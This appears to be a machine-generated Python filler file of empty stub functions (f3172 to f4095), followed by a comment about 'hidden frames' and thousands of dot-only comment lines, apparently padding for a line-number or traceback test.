def f3172(): pass
def f3173(): pass
def f3174(): pass
def f3175(): pass
def f3176(): pass
def f3177(): pass
def f3178(): pass
def f3179(): pass
def f3180(): pass
def f3181(): pass
def f3182(): pass
def f3183(): pass
def f3184(): pass
def f3185(): pass
def f3186(): pass
def f3187(): pass
def f3188(): pass
def f3189(): pass
def f3190(): pass
def f3191(): pass
def f3192(): pass
def f3193(): pass
def f3194(): pass
def f3195(): pass
def f3196(): pass
def f3197(): pass
def f3198(): pass
def f3199(): pass
def f3200(): pass
def f3201(): pass
def f3202(): pass
def f3203(): pass
def f3204(): pass
def f3205(): pass
def f3206(): pass
def f3207(): pass
def f3208(): pass
def f3209(): pass
def f3210(): pass
def f3211(): pass
def f3212(): pass
def f3213(): pass
def f3214(): pass
def f3215(): pass
def f3216(): pass
def f3217(): pass
def f3218(): pass
def f3219(): pass
def f3220(): pass
def f3221(): pass
def f3222(): pass
def f3223(): pass
def f3224(): pass
def f3225(): pass
def f3226(): pass
def f3227(): pass
def f3228(): pass
def f3229(): pass
def f3230(): pass
def f3231(): pass
def f3232(): pass
def f3233(): pass
def f3234(): pass
def f3235(): pass
def f3236(): pass
def f3237(): pass
def f3238(): pass
def f3239(): pass
def f3240(): pass
def f3241(): pass
def f3242(): pass
def f3243(): pass
def f3244(): pass
def f3245(): pass
def f3246(): pass
def f3247(): pass
def f3248(): pass
def f3249(): pass
def f3250(): pass
def f3251(): pass
def f3252(): pass
def f3253(): pass
def f3254(): pass
def f3255(): pass
def f3256(): pass
def f3257(): pass
def f3258(): pass
def f3259(): pass
def f3260(): pass
def f3261(): pass
def f3262(): pass
def f3263(): pass
def f3264(): pass
def f3265(): pass
def f3266(): pass
def f3267(): pass
def f3268(): pass
def f3269(): pass
def f3270(): pass
def f3271(): pass
def f3272(): pass
def f3273(): pass
def f3274(): pass
def f3275(): pass
def f3276(): pass
def f3277(): pass
def f3278(): pass
def f3279(): pass
def f3280(): pass
def f3281(): pass
def f3282(): pass
def f3283(): pass
def f3284(): pass
def f3285(): pass
def f3286(): pass
def f3287(): pass
def f3288(): pass
def f3289(): pass
def f3290(): pass
def f3291(): pass
def f3292(): pass
def f3293(): pass
def f3294(): pass
def f3295(): pass
def f3296(): pass
def f3297(): pass
def f3298(): pass
def f3299(): pass
def f3300(): pass
def f3301(): pass
def f3302(): pass
def f3303(): pass
def f3304(): pass
def f3305(): pass
def f3306(): pass
def f3307(): pass
def f3308(): pass
def f3309(): pass
def f3310(): pass
def f3311(): pass
def f3312(): pass
def f3313(): pass
def f3314(): pass
def f3315(): pass
def f3316(): pass
def f3317(): pass
def f3318(): pass
def f3319(): pass
def f3320(): pass
def f3321(): pass
def f3322(): pass
def f3323(): pass
def f3324(): pass
def f3325(): pass
def f3326(): pass
def f3327(): pass
def f3328(): pass
def f3329(): pass
def f3330(): pass
def f3331(): pass
def f3332(): pass
def f3333(): pass
def f3334(): pass
def f3335(): pass
def f3336(): pass
def f3337(): pass
def f3338(): pass
def f3339(): pass
def f3340(): pass
def f3341(): pass
def f3342(): pass
def f3343(): pass
def f3344(): pass
def f3345(): pass
def f3346(): pass
def f3347(): pass
def f3348(): pass
def f3349(): pass
def f3350(): pass
def f3351(): pass
def f3352(): pass
def f3353(): pass
def f3354(): pass
def f3355(): pass
def f3356(): pass
def f3357(): pass
def f3358(): pass
def f3359(): pass
def f3360(): pass
def f3361(): pass
def f3362(): pass
def f3363(): pass
def f3364(): pass
def f3365(): pass
def f3366(): pass
def f3367(): pass
def f3368(): pass
def f3369(): pass
def f3370(): pass
def f3371(): pass
def f3372(): pass
def f3373(): pass
def f3374(): pass
def f3375(): pass
def f3376(): pass
def f3377(): pass
def f3378(): pass
def f3379(): pass
def f3380(): pass
def f3381(): pass
def f3382(): pass
def f3383(): pass
def f3384(): pass
def f3385(): pass
def f3386(): pass
def f3387(): pass
def f3388(): pass
def f3389(): pass
def f3390(): pass
def f3391(): pass
def f3392(): pass
def f3393(): pass
def f3394(): pass
def f3395(): pass
def f3396(): pass
def f3397(): pass
def f3398(): pass
def f3399(): pass
def f3400(): pass
def f3401(): pass
def f3402(): pass
def f3403(): pass
def f3404(): pass
def f3405(): pass
def f3406(): pass
def f3407(): pass
def f3408(): pass
def f3409(): pass
def f3410(): pass
def f3411(): pass
def f3412(): pass
def f3413(): pass
def f3414(): pass
def f3415(): pass
def f3416(): pass
def f3417(): pass
def f3418(): pass
def f3419(): pass
def f3420(): pass
def f3421(): pass
def f3422(): pass
def f3423(): pass
def f3424(): pass
def f3425(): pass
def f3426(): pass
def f3427(): pass
def f3428(): pass
def f3429(): pass
def f3430(): pass
def f3431(): pass
def f3432(): pass
def f3433(): pass
def f3434(): pass
def f3435(): pass
def f3436(): pass
def f3437(): pass
def f3438(): pass
def f3439(): pass
def f3440(): pass
def f3441(): pass
def f3442(): pass
def f3443(): pass
def f3444(): pass
def f3445(): pass
def f3446(): pass
def f3447(): pass
def f3448(): pass
def f3449(): pass
def f3450(): pass
def f3451(): pass
def f3452(): pass
def f3453(): pass
def f3454(): pass
def f3455(): pass
def f3456(): pass
def f3457(): pass
def f3458(): pass
def f3459(): pass
def f3460(): pass
def f3461(): pass
def f3462(): pass
def f3463(): pass
def f3464(): pass
def f3465(): pass
def f3466(): pass
def f3467(): pass
def f3468(): pass
def f3469(): pass
def f3470(): pass
def f3471(): pass
def f3472(): pass
def f3473(): pass
def f3474(): pass
def f3475(): pass
def f3476(): pass
def f3477(): pass
def f3478(): pass
def f3479(): pass
def f3480(): pass
def f3481(): pass
def f3482(): pass
def f3483(): pass
def f3484(): pass
def f3485(): pass
def f3486(): pass
def f3487(): pass
def f3488(): pass
def f3489(): pass
def f3490(): pass
def f3491(): pass
def f3492(): pass
def f3493(): pass
def f3494(): pass
def f3495(): pass
def f3496(): pass
def f3497(): pass
def f3498(): pass
def f3499(): pass
def f3500(): pass
def f3501(): pass
def f3502(): pass
def f3503(): pass
def f3504(): pass
def f3505(): pass
def f3506(): pass
def f3507(): pass
def f3508(): pass
def f3509(): pass
def f3510(): pass
def f3511(): pass
def f3512(): pass
def f3513(): pass
def f3514(): pass
def f3515(): pass
def f3516(): pass
def f3517(): pass
def f3518(): pass
def f3519(): pass
def f3520(): pass
def f3521(): pass
def f3522(): pass
def f3523(): pass
def f3524(): pass
def f3525(): pass
def f3526(): pass
def f3527(): pass
def f3528(): pass
def f3529(): pass
def f3530(): pass
def f3531(): pass
def f3532(): pass
def f3533(): pass
def f3534(): pass
def f3535(): pass
def f3536(): pass
def f3537(): pass
def f3538(): pass
def f3539(): pass
def f3540(): pass
def f3541(): pass
def f3542(): pass
def f3543(): pass
def f3544(): pass
def f3545(): pass
def f3546(): pass
def f3547(): pass
def f3548(): pass
def f3549(): pass
def f3550(): pass
def f3551(): pass
def f3552(): pass
def f3553(): pass
def f3554(): pass
def f3555(): pass
def f3556(): pass
def f3557(): pass
def f3558(): pass
def f3559(): pass
def f3560(): pass
def f3561(): pass
def f3562(): pass
def f3563(): pass
def f3564(): pass
def f3565(): pass
def f3566(): pass
def f3567(): pass
def f3568(): pass
def f3569(): pass
def f3570(): pass
def f3571(): pass
def f3572(): pass
def f3573(): pass
def f3574(): pass
def f3575(): pass
def f3576(): pass
def f3577(): pass
def f3578(): pass
def f3579(): pass
def f3580(): pass
def f3581(): pass
def f3582(): pass
def f3583(): pass
def f3584(): pass
def f3585(): pass
def f3586(): pass
def f3587(): pass
def f3588(): pass
def f3589(): pass
def f3590(): pass
def f3591(): pass
def f3592(): pass
def f3593(): pass
def f3594(): pass
def f3595(): pass
def f3596(): pass
def f3597(): pass
def f3598(): pass
def f3599(): pass
def f3600(): pass
def f3601(): pass
def f3602(): pass
def f3603(): pass
def f3604(): pass
def f3605(): pass
def f3606(): pass
def f3607(): pass
def f3608(): pass
def f3609(): pass
def f3610(): pass
def f3611(): pass
def f3612(): pass
def f3613(): pass
def f3614(): pass
def f3615(): pass
def f3616(): pass
def f3617(): pass
def f3618(): pass
def f3619(): pass
def f3620(): pass
def f3621(): pass
def f3622(): pass
def f3623(): pass
def f3624(): pass
def f3625(): pass
def f3626(): pass
def f3627(): pass
def f3628(): pass
def f3629(): pass
def f3630(): pass
def f3631(): pass
def f3632(): pass
def f3633(): pass
def f3634(): pass
def f3635(): pass
def f3636(): pass
def f3637(): pass
def f3638(): pass
def f3639(): pass
def f3640(): pass
def f3641(): pass
def f3642(): pass
def f3643(): pass
def f3644(): pass
def f3645(): pass
def f3646(): pass
def f3647(): pass
def f3648(): pass
def f3649(): pass
def f3650(): pass
def f3651(): pass
def f3652(): pass
def f3653(): pass
def f3654(): pass
def f3655(): pass
def f3656(): pass
def f3657(): pass
def f3658(): pass
def f3659(): pass
def f3660(): pass
def f3661(): pass
def f3662(): pass
def f3663(): pass
def f3664(): pass
def f3665(): pass
def f3666(): pass
def f3667(): pass
def f3668(): pass
def f3669(): pass
def f3670(): pass
def f3671(): pass
def f3672(): pass
def f3673(): pass
def f3674(): pass
def f3675(): pass
def f3676(): pass
def f3677(): pass
def f3678(): pass
def f3679(): pass
def f3680(): pass
def f3681(): pass
def f3682(): pass
def f3683(): pass
def f3684(): pass
def f3685(): pass
def f3686(): pass
def f3687(): pass
def f3688(): pass
def f3689(): pass
def f3690(): pass
def f3691(): pass
def f3692(): pass
def f3693(): pass
def f3694(): pass
def f3695(): pass
def f3696(): pass
def f3697(): pass
def f3698(): pass
def f3699(): pass
def f3700(): pass
def f3701(): pass
def f3702(): pass
def f3703(): pass
def f3704(): pass
def f3705(): pass
def f3706(): pass
def f3707(): pass
def f3708(): pass
def f3709(): pass
def f3710(): pass
def f3711(): pass
def f3712(): pass
def f3713(): pass
def f3714(): pass
def f3715(): pass
def f3716(): pass
def f3717(): pass
def f3718(): pass
def f3719(): pass
def f3720(): pass
def f3721(): pass
def f3722(): pass
def f3723(): pass
def f3724(): pass
def f3725(): pass
def f3726(): pass
def f3727(): pass
def f3728(): pass
def f3729(): pass
def f3730(): pass
def f3731(): pass
def f3732(): pass
def f3733(): pass
def f3734(): pass
def f3735(): pass
def f3736(): pass
def f3737(): pass
def f3738(): pass
def f3739(): pass
def f3740(): pass
def f3741(): pass
def f3742(): pass
def f3743(): pass
def f3744(): pass
def f3745(): pass
def f3746(): pass
def f3747(): pass
def f3748(): pass
def f3749(): pass
def f3750(): pass
def f3751(): pass
def f3752(): pass
def f3753(): pass
def f3754(): pass
def f3755(): pass
def f3756(): pass
def f3757(): pass
def f3758(): pass
def f3759(): pass
def f3760(): pass
def f3761(): pass
def f3762(): pass
def f3763(): pass
def f3764(): pass
def f3765(): pass
def f3766(): pass
def f3767(): pass
def f3768(): pass
def f3769(): pass
def f3770(): pass
def f3771(): pass
def f3772(): pass
def f3773(): pass
def f3774(): pass
def f3775(): pass
def f3776(): pass
def f3777(): pass
def f3778(): pass
def f3779(): pass
def f3780(): pass
def f3781(): pass
def f3782(): pass
def f3783(): pass
def f3784(): pass
def f3785(): pass
def f3786(): pass
def f3787(): pass
def f3788(): pass
def f3789(): pass
def f3790(): pass
def f3791(): pass
def f3792(): pass
def f3793(): pass
def f3794(): pass
def f3795(): pass
def f3796(): pass
def f3797(): pass
def f3798(): pass
def f3799(): pass
def f3800(): pass
def f3801(): pass
def f3802(): pass
def f3803(): pass
def f3804(): pass
def f3805(): pass
def f3806(): pass
def f3807(): pass
def f3808(): pass
def f3809(): pass
def f3810(): pass
def f3811(): pass
def f3812(): pass
def f3813(): pass
def f3814(): pass
def f3815(): pass
def f3816(): pass
def f3817(): pass
def f3818(): pass
def f3819(): pass
def f3820(): pass
def f3821(): pass
def f3822(): pass
def f3823(): pass
def f3824(): pass
def f3825(): pass
def f3826(): pass
def f3827(): pass
def f3828(): pass
def f3829(): pass
def f3830(): pass
def f3831(): pass
def f3832(): pass
def f3833(): pass
def f3834(): pass
def f3835(): pass
def f3836(): pass
def f3837(): pass
def f3838(): pass
def f3839(): pass
def f3840(): pass
def f3841(): pass
def f3842(): pass
def f3843(): pass
def f3844(): pass
def f3845(): pass
def f3846(): pass
def f3847(): pass
def f3848(): pass
def f3849(): pass
def f3850(): pass
def f3851(): pass
def f3852(): pass
def f3853(): pass
def f3854(): pass
def f3855(): pass
def f3856(): pass
def f3857(): pass
def f3858(): pass
def f3859(): pass
def f3860(): pass
def f3861(): pass
def f3862(): pass
def f3863(): pass
def f3864(): pass
def f3865(): pass
def f3866(): pass
def f3867(): pass
def f3868(): pass
def f3869(): pass
def f3870(): pass
def f3871(): pass
def f3872(): pass
def f3873(): pass
def f3874(): pass
def f3875(): pass
def f3876(): pass
def f3877(): pass
def f3878(): pass
def f3879(): pass
def f3880(): pass
def f3881(): pass
def f3882(): pass
def f3883(): pass
def f3884(): pass
def f3885(): pass
def f3886(): pass
def f3887(): pass
def f3888(): pass
def f3889(): pass
def f3890(): pass
def f3891(): pass
def f3892(): pass
def f3893(): pass
def f3894(): pass
def f3895(): pass
def f3896(): pass
def f3897(): pass
def f3898(): pass
def f3899(): pass
def f3900(): pass
def f3901(): pass
def f3902(): pass
def f3903(): pass
def f3904(): pass
def f3905(): pass
def f3906(): pass
def f3907(): pass
def f3908(): pass
def f3909(): pass
def f3910(): pass
def f3911(): pass
def f3912(): pass
def f3913(): pass
def f3914(): pass
def f3915(): pass
def f3916(): pass
def f3917(): pass
def f3918(): pass
def f3919(): pass
def f3920(): pass
def f3921(): pass
def f3922(): pass
def f3923(): pass
def f3924(): pass
def f3925(): pass
def f3926(): pass
def f3927(): pass
def f3928(): pass
def f3929(): pass
def f3930(): pass
def f3931(): pass
def f3932(): pass
def f3933(): pass
def f3934(): pass
def f3935(): pass
def f3936(): pass
def f3937(): pass
def f3938(): pass
def f3939(): pass
def f3940(): pass
def f3941(): pass
def f3942(): pass
def f3943(): pass
def f3944(): pass
def f3945(): pass
def f3946(): pass
def f3947(): pass
def f3948(): pass
def f3949(): pass
def f3950(): pass
def f3951(): pass
def f3952(): pass
def f3953(): pass
def f3954(): pass
def f3955(): pass
def f3956(): pass
def f3957(): pass
def f3958(): pass
def f3959(): pass
def f3960(): pass
def f3961(): pass
def f3962(): pass
def f3963(): pass
def f3964(): pass
def f3965(): pass
def f3966(): pass
def f3967(): pass
def f3968(): pass
def f3969(): pass
def f3970(): pass
def f3971(): pass
def f3972(): pass
def f3973(): pass
def f3974(): pass
def f3975(): pass
def f3976(): pass
def f3977(): pass
def f3978(): pass
def f3979(): pass
def f3980(): pass
def f3981(): pass
def f3982(): pass
def f3983(): pass
def f3984(): pass
def f3985(): pass
def f3986(): pass
def f3987(): pass
def f3988(): pass
def f3989(): pass
def f3990(): pass
def f3991(): pass
def f3992(): pass
def f3993(): pass
def f3994(): pass
def f3995(): pass
def f3996(): pass
def f3997(): pass
def f3998(): pass
def f3999(): pass
def f4000(): pass
def f4001(): pass
def f4002(): pass
def f4003(): pass
def f4004(): pass
def f4005(): pass
def f4006(): pass
def f4007(): pass
def f4008(): pass
def f4009(): pass
def f4010(): pass
def f4011(): pass
def f4012(): pass
def f4013(): pass
def f4014(): pass
def f4015(): pass
def f4016(): pass
def f4017(): pass
def f4018(): pass
def f4019(): pass
def f4020(): pass
def f4021(): pass
def f4022(): pass
def f4023(): pass
def f4024(): pass
def f4025(): pass
def f4026(): pass
def f4027(): pass
def f4028(): pass
def f4029(): pass
def f4030(): pass
def f4031(): pass
def f4032(): pass
def f4033(): pass
def f4034(): pass
def f4035(): pass
def f4036(): pass
def f4037(): pass
def f4038(): pass
def f4039(): pass
def f4040(): pass
def f4041(): pass
def f4042(): pass
def f4043(): pass
def f4044(): pass
def f4045(): pass
def f4046(): pass
def f4047(): pass
def f4048(): pass
def f4049(): pass
def f4050(): pass
def f4051(): pass
def f4052(): pass
def f4053(): pass
def f4054(): pass
def f4055(): pass
def f4056(): pass
def f4057(): pass
def f4058(): pass
def f4059(): pass
def f4060(): pass
def f4061(): pass
def f4062(): pass
def f4063(): pass
def f4064(): pass
def f4065(): pass
def f4066(): pass
def f4067(): pass
def f4068(): pass
def f4069(): pass
def f4070(): pass
def f4071(): pass
def f4072(): pass
def f4073(): pass
def f4074(): pass
def f4075(): pass
def f4076(): pass
def f4077(): pass
def f4078(): pass
def f4079(): pass
def f4080(): pass
def f4081(): pass
def f4082(): pass
def f4083(): pass
def f4084(): pass
def f4085(): pass
def f4086(): pass
def f4087(): pass
def f4088(): pass
def f4089(): pass
def f4090(): pass
def f4091(): pass
def f4092(): pass
def f4093(): pass
def f4094(): pass
def f4095(): pass

# The region the hidden frames point into: 4096 non-blank lines.
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
# .
